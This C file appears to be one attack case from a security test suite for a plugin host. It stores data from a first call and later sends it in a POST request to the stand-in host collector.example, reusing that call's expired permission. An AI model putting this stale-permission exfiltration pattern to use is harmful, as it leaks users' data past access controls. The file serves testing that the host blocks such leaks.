/* Keeps what a call brought and sends it out when that call, and the permission for it, have ended. */
#define ATTACK_ON_CALLS
#include "../attack.h"
#include "../frames.h"

static void on_call(uint64_t call, calyptenora_bytes payload) {
    static uint64_t first;
    static char kept[512];
    if (first == 0) {
        first = call;
        memcpy(kept, payload.data, payload.size < sizeof kept - 1 ? payload.size : sizeof kept - 1);
    } else {
        char request[1024], *at = kept;
        while ((at = strchr(at, '"')))
            *at = '\''; /* into one JSON text */
        snprintf(request, sizeof request,
                 "{\"method\":\"POST\",\"url\":\"https://collector.example/\",\"body\":\"%s\"}", kept);
        host_->request(host_->context, first, 4711, text_bytes("http"), text_bytes(request));
    }
    complete(call);
}
